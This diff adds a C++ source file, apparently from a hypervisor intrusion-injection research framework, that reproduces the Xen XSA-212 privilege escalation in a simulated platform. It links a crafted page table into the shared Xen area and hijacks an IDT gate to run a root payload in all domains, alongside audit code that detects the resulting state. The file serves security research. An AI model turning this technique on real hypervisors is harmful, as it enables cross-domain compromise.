@@ -1,0 +1,264 @@
+// XSA-212 PoC #2 (privilege escalation): use the arbitrary-write primitive
+// to link an attacker-crafted PMD (with an L1 and a payload page behind it)
+// into a PUD of the shared Xen area, so the payload becomes visible — at
+// the same virtual address — in every domain's address space. Install the
+// payload through that address, register an IDT gate pointing at it, fire
+// the interrupt, and the payload runs with hypervisor privilege in every
+// domain ("|uid=0(root)...|" in /tmp/injector_log everywhere).
+//
+// The injection variant is the paper's §VI-B script: the same erroneous
+// state driven by HYPERVISOR_arbitrary_access instead of the exchange bug.
+#include <cstring>
+
+#include "core/injector.hpp"
+#include "guest/payload.hpp"
+#include "core/injector.hpp"
+#include "core/monitor.hpp"
+#include "xsa/detail.hpp"
+#include "xsa/exchange_primitive.hpp"
+#include "xsa/usecases.hpp"
+
+namespace ii::xsa {
+
+namespace {
+
+/// Guest-visible virtual address the linked PMD serves: L4 slot 256
+/// (Xen area), L3 slot kTargetPudSlot — inside the pre-4.9
+/// linear-page-table window around 0xffff8040'00000000.
+sim::Vaddr crafted_va() {
+  return sim::compose_vaddr(256, Xsa212Priv::kTargetPudSlot, 0, 0);
+}
+
+/// Read the hypervisor's layout block from the guest-readable text mapping
+/// (stands in for symbol knowledge from the Xen binary).
+std::optional<hv::XenInfoPage> read_xen_info(guest::GuestKernel& guest) {
+  hv::XenInfoPage info{};
+  if (!guest.read_virt(sim::Vaddr{hv::kXenTextBase},
+                       {reinterpret_cast<std::uint8_t*>(&info), sizeof info})) {
+    return std::nullopt;
+  }
+  if (info.magic != hv::XenInfoPage::kMagic) return std::nullopt;
+  return info;
+}
+
+struct CraftedTables {
+  sim::Mfn pmd{};
+  sim::Mfn l1{};
+  sim::Mfn payload{};
+};
+
+/// Build the fake PMD -> fake L1 -> payload-page chain inside the guest's
+/// own memory (plain directmap writes; these are the guest's data pages).
+std::optional<CraftedTables> craft_tables(guest::GuestKernel& guest) {
+  const auto pmd_pfn = guest.alloc_pfn();
+  const auto l1_pfn = guest.alloc_pfn();
+  const auto payload_pfn = guest.alloc_pfn();
+  if (!pmd_pfn || !l1_pfn || !payload_pfn) return std::nullopt;
+
+  CraftedTables t{};
+  t.pmd = *guest.pfn_to_mfn(*pmd_pfn);
+  t.l1 = *guest.pfn_to_mfn(*l1_pfn);
+  t.payload = *guest.pfn_to_mfn(*payload_pfn);
+
+  constexpr std::uint64_t kFlags =
+      sim::Pte::kPresent | sim::Pte::kWritable | sim::Pte::kUser;
+  if (!guest.write_u64(guest.pfn_va(*l1_pfn),
+                       sim::Pte::make(t.payload, kFlags).raw())) {
+    return std::nullopt;
+  }
+  if (!guest.write_u64(guest.pfn_va(*pmd_pfn),
+                       sim::Pte::make(t.l1, kFlags).raw())) {
+    return std::nullopt;
+  }
+  return t;
+}
+
+/// The steps after the PUD is linked: install the payload *through the
+/// crafted Xen-range address* (the access 4.13's hardening refuses),
+/// register the IDT gate, fire it.
+bool detonate(guest::VirtualPlatform& p, guest::GuestKernel& guest,
+              core::CaseOutcome& out,
+              const std::function<bool(sim::Vaddr, std::span<const std::uint8_t>)>&
+                  write_hv_bytes) {
+  guest::Payload payload{};
+  payload.op = guest::PayloadOp::RunCommandAllDomains;
+  payload.command = Xsa212Priv::kPayloadCommand;
+  std::vector<std::uint8_t> bytes(512);
+  bytes.resize(payload.encode(bytes));
+
+  detail::note(out, guest, "installing payload at " +
+                               detail::hex(crafted_va().raw()));
+  if (!guest.write_virt(crafted_va(), bytes)) {
+    detail::note(out, guest,
+                 "BUG: unable to handle page request at " +
+                     detail::hex(crafted_va().raw()) +
+                     " (payload install failed)");
+    return false;
+  }
+
+  const auto gate = sim::IdtGate::interrupt_gate(crafted_va().raw());
+  const auto raw = sim::Idt::encode(gate);
+  const sim::Vaddr gate_va{p.hv().sidt().raw() +
+                           Xsa212Priv::kPayloadVector * sim::Idt::kGateBytes};
+  detail::note(out, guest, "registering IDT handler vector " +
+                               std::to_string(Xsa212Priv::kPayloadVector));
+  if (!write_hv_bytes(gate_va, raw)) {
+    detail::note(out, guest, "IDT registration failed");
+    return false;
+  }
+  detail::note(out, guest, "invoking handler");
+  (void)guest.software_interrupt(Xsa212Priv::kPayloadVector);
+  return true;
+}
+
+}  // namespace
+
+core::IntrusionModel Xsa212Priv::model() const {
+  return core::IntrusionModel{
+      .source = core::TriggeringSource::UnprivilegedGuest,
+      .component = core::TargetComponent::MemoryManagement,
+      .interface = core::InteractionInterface::Hypercall,
+      .functionality =
+          core::AbusiveFunctionality::WriteUnauthorizedArbitraryMemory,
+      .erroneous_state =
+          "attacker PMD linked into a PUD of the shared Xen area",
+  };
+}
+
+core::CaseOutcome Xsa212Priv::run_exploit(guest::VirtualPlatform& p) {
+  core::CaseOutcome out;
+  guest::GuestKernel& guest = p.guest(0);
+
+  const auto info = read_xen_info(guest);
+  if (!info) {
+    detail::note(out, guest, "cannot locate xen layout info");
+    return out;
+  }
+  const auto tables = craft_tables(guest);
+  if (!tables) {
+    detail::note(out, guest, "out of guest pages");
+    return out;
+  }
+  detail::note(out, guest, "### crafted PUD entry written");
+
+  ExchangeWritePrimitive prim{guest};
+  const sim::Vaddr pud_slot{
+      hv::directmap_vaddr(sim::Paddr{info->xen_l3_paddr}).raw() +
+      kTargetPudSlot * 8};
+  const std::uint64_t pud_value =
+      sim::Pte::make(tables->pmd, sim::Pte::kPresent | sim::Pte::kWritable |
+                                      sim::Pte::kUser)
+          .raw();
+  detail::note(out, guest, "going to link PMD into target PUD");
+  if (!prim.write_u64(pud_slot, pud_value) ||
+      !prim.zero_byte_at(sim::Vaddr{pud_slot.raw() + 8})) {
+    out.rc = prim.rc();
+    detail::note(out, guest,
+                 std::string{"memory_exchange failed: "} +
+                     hv::errno_name(out.rc) + " (vulnerability fixed)");
+    return out;
+  }
+  out.rc = prim.rc();
+  detail::note(out, guest, "linked PMD into target PUD");
+
+  out.completed = detonate(
+      p, guest, out,
+      [&](sim::Vaddr va, std::span<const std::uint8_t> bytes) {
+        // The primitive writes 8 bytes at a time; sweep the buffer and
+        // clean the one spill byte that matters (the next gate's
+        // type_attr, at +16+5 relative to this gate).
+        for (std::size_t off = 0; off + 8 <= bytes.size(); off += 8) {
+          std::uint64_t word = 0;
+          std::memcpy(&word, bytes.data() + off, 8);
+          if (!prim.write_u64(sim::Vaddr{va.raw() + off}, word)) return false;
+        }
+        return prim.zero_byte_at(sim::Vaddr{va.raw() + 16 + 5});
+      });
+  return out;
+}
+
+core::CaseOutcome Xsa212Priv::run_injection(guest::VirtualPlatform& p) {
+  core::CaseOutcome out;
+  guest::GuestKernel& guest = p.guest(0);
+
+  const auto info = read_xen_info(guest);
+  if (!info) {
+    detail::note(out, guest, "cannot locate xen layout info");
+    return out;
+  }
+  const auto tables = craft_tables(guest);
+  if (!tables) {
+    detail::note(out, guest, "out of guest pages");
+    return out;
+  }
+  detail::note(out, guest, "### crafted PUD entry written");
+
+  core::ArbitraryAccessInjector injector{guest};
+  const sim::Vaddr pud_slot{
+      hv::directmap_vaddr(sim::Paddr{info->xen_l3_paddr}).raw() +
+      kTargetPudSlot * 8};
+  const std::uint64_t pud_value =
+      sim::Pte::make(tables->pmd, sim::Pte::kPresent | sim::Pte::kWritable |
+                                      sim::Pte::kUser)
+          .raw();
+  detail::note(out, guest, "going to link PMD into target PUD");
+  // The paper's §VI-B snippet: HYPERVISOR_arbitrary_access(target, &val,
+  // sizeof(u64), ARBITRARY_WRITE_LINEAR).
+  if (!injector.write_u64(pud_slot.raw(), pud_value,
+                          core::AddressMode::Linear)) {
+    out.rc = injector.last_rc();
+    detail::note(out, guest, std::string{"arbitrary_access failed: "} +
+                                 hv::errno_name(out.rc));
+    return out;
+  }
+  out.rc = injector.last_rc();
+  detail::note(out, guest, "linked PMD into target PUD");
+
+  out.completed = detonate(
+      p, guest, out,
+      [&](sim::Vaddr va, std::span<const std::uint8_t> bytes) {
+        return injector.write(va.raw(), bytes, core::AddressMode::Linear);
+      });
+  return out;
+}
+
+bool Xsa212Priv::erroneous_state_present(guest::VirtualPlatform& p) const {
+  // Audit the target PUD slot: the erroneous state is a present entry in
+  // the shared Xen L3 that leads to guest-owned memory.
+  const sim::Pte entry{
+      p.hv().memory().read_slot(p.hv().xen_l3(), kTargetPudSlot)};
+  if (!entry.present() || !p.hv().memory().contains(entry.frame())) {
+    return false;
+  }
+  const hv::PageInfo& pi = p.hv().frames().info(entry.frame());
+  return pi.owner != hv::kDomXen && pi.owner != hv::kDomInvalid;
+}
+
+bool Xsa212Priv::security_violation(guest::VirtualPlatform& p) const {
+  core::SystemMonitor monitor{p};
+  return monitor.file_in_all_domains("/tmp/injector_log", "uid=0(root)");
+}
+
+std::string Xsa212Priv::erroneous_state_description(
+    guest::VirtualPlatform& p) const {
+  const sim::PhysicalMemory& mem = p.hv().memory();
+  const sim::Pte pud{mem.read_slot(p.hv().xen_l3(), kTargetPudSlot)};
+  if (!pud.present() || !mem.contains(pud.frame())) return {};
+  const hv::PageInfo& pud_target = p.hv().frames().info(pud.frame());
+  std::string out = "xen_l3[" + std::to_string(kTargetPudSlot) +
+                    "]: " + detail::flags_str(pud) + " -> " +
+                    (pud_target.owner == hv::kDomXen ? "xen" : "guest") +
+                    "-owned PMD";
+  const sim::Pte pmd{mem.read_slot(pud.frame(), 0)};
+  if (!pmd.present() || !mem.contains(pmd.frame())) return out;
+  out += "[0]: " + detail::flags_str(pmd) + " -> L1";
+  const sim::Pte l1{mem.read_slot(pmd.frame(), 0)};
+  if (!l1.present() || !mem.contains(l1.frame())) return out;
+  out += "[0]: " + detail::flags_str(l1) + " -> payload: ";
+  const auto payload =
+      guest::Payload::decode(mem.frame_bytes(l1.frame()));
+  out += payload ? "'" + payload->command + "'" : "absent";
+  return out;
+}
+
+}  // namespace ii::xsa
